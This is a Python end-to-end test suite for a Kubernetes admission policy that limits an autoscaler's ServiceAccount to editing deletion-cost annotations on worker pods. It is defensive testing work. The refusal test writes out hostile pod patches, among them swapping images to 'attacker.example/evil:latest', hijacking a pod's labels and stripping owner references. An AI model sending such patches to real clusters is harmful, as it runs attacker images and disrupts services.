"""deploy/kustomize/base/pod-patch-policy.yaml against the real API server. The Role lets the
autoscaler's ServiceAccount patch every pod of its namespace (RBAC cannot narrow a patch to some
fields or to some pods); the admission policy lets that token change only the deletion-cost
annotations of a worker pod. Without it, the token could give the API pod another image or take the
Valkey pod out of its Service (both reproduced with HTTP 200 before the policy)."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from kubernetes.client.exceptions import ApiException

from autoscaler.targets.deletion_marks import DELETION_COST, MARK_BEFORE, MARK_OWNER
from tests.e2e.kube import Install, core_api, wait_for

pytestmark = pytest.mark.e2e

POLICY = "startup-autoscaler-pod-patches"
MERGE = "application/merge-patch+json"
JSON_PATCH = "application/json-patch+json"
NAME = "app.kubernetes.io/name"


def _refusal(call: Callable[[], Any]) -> tuple[int, str]:
    """The HTTP status of ``call`` and, when refused, the server's message."""
    try:
        call()
    except ApiException as exc:
        return int(exc.status), str(exc.body)
    return 200, ""


def _pod(installed: Install, app: str) -> Any:
    def first() -> Any:
        pods = installed.core.list_namespaced_pod(installed.namespace, label_selector=f"{NAME}={app}").items
        return next((p for p in pods if p.metadata.deletion_timestamp is None), None)

    return wait_for(f"a {app} pod", first, 30)


def _annotations(installed: Install, pod: str) -> dict[str, str]:
    return dict(installed.core.read_namespaced_pod(pod, installed.namespace).metadata.annotations or {})


def test_the_service_account_may_set_and_remove_a_worker_pods_deletion_cost(installed: Install) -> None:
    """What autoscaler/targets/deletion_marks.py writes: a merge patch of the three annotations,
    naming the pod's resourceVersion, then one removing them (null values)."""
    ns, sa = installed.namespace, core_api(installed.sa)
    pod = _pod(installed, "worker")
    name = pod.metadata.name
    mark = {DELETION_COST: "-7", MARK_OWNER: "-7", MARK_BEFORE: "3"}
    body = {"metadata": {"annotations": mark, "resourceVersion": pod.metadata.resource_version}}
    sa.patch_namespaced_pod(name, ns, body, _content_type=MERGE)
    assert _annotations(installed, name).items() >= mark.items()
    unmark = {"metadata": {"annotations": dict.fromkeys(mark)}}
    sa.patch_namespaced_pod(name, ns, unmark, _content_type=MERGE)
    assert not _annotations(installed, name).keys() & mark.keys()


def test_any_other_change_to_a_pod_by_the_service_account_is_refused(installed: Install) -> None:
    ns, sa = installed.namespace, core_api(installed.sa)
    worker, api, valkey = (_pod(installed, app) for app in ("worker", "api", "valkey"))
    image = [{"op": "replace", "path": "/spec/containers/0/image", "value": "attacker.example/evil:latest"}]

    def merge(pod: Any, body: dict[str, Any]) -> Callable[[], Any]:
        return lambda: sa.patch_namespaced_pod(pod.metadata.name, ns, body, _content_type=MERGE)

    def json_patch(pod: Any, ops: list[dict[str, Any]]) -> Callable[[], Any]:
        return lambda: sa.patch_namespaced_pod(pod.metadata.name, ns, ops, _content_type=JSON_PATCH)

    refused = {
        "the api pod's image": json_patch(api, image),
        "a worker pod's image": json_patch(worker, image),
        "the valkey pod's labels": merge(valkey, {"metadata": {"labels": {NAME: "hijacked"}}}),
        "a worker pod's labels": merge(worker, {"metadata": {"labels": {"extra": "x"}}}),
        "another annotation of a worker pod": merge(worker, {"metadata": {"annotations": {"other": "x"}}}),
        "a worker pod's scrape annotation": merge(
            worker, {"metadata": {"annotations": {"prometheus.io/scrape": None}}}
        ),
        "a deletion cost on the api pod": merge(api, {"metadata": {"annotations": {DELETION_COST: "1"}}}),
        "a worker pod's owner": json_patch(worker, [{"op": "remove", "path": "/metadata/ownerReferences"}]),
        "a finalizer on a worker pod": merge(worker, {"metadata": {"finalizers": ["example.com/hold"]}}),
        "the deletion cost together with the image": lambda: sa.patch_namespaced_pod(
            worker.metadata.name,
            ns,
            {
                "metadata": {"annotations": {DELETION_COST: "1"}},
                "spec": {"containers": [{"name": "worker", "image": "attacker.example/evil:latest"}]},
            },
        ),  # a strategic merge patch
    }
    answers = {what: _refusal(call) for what, call in refused.items()}
    assert {what: status for what, (status, _) in answers.items()} == dict.fromkeys(refused, 403)
    for what, (_, message) in answers.items():
        assert f"ValidatingAdmissionPolicy '{POLICY}'" in message, (what, message)
    # Nothing changed.
    for before in (worker, api, valkey):
        after = installed.core.read_namespaced_pod(before.metadata.name, ns)
        assert after.spec.containers[0].image == before.spec.containers[0].image
        assert after.metadata.labels == before.metadata.labels
        assert after.metadata.owner_references == before.metadata.owner_references
        assert not (after.metadata.annotations or {}).keys() - (before.metadata.annotations or {}).keys()


def test_the_policy_binds_only_the_service_account(installed: Install) -> None:
    """Anyone else the Role does not concern (here the admin) changes pods as before."""
    pod = _pod(installed, "worker").metadata.name
    body = {"metadata": {"annotations": {"example.com/note": "by the admin"}}}
    installed.core.patch_namespaced_pod(pod, installed.namespace, body, _content_type=MERGE)
    assert _annotations(installed, pod)["example.com/note"] == "by the admin"
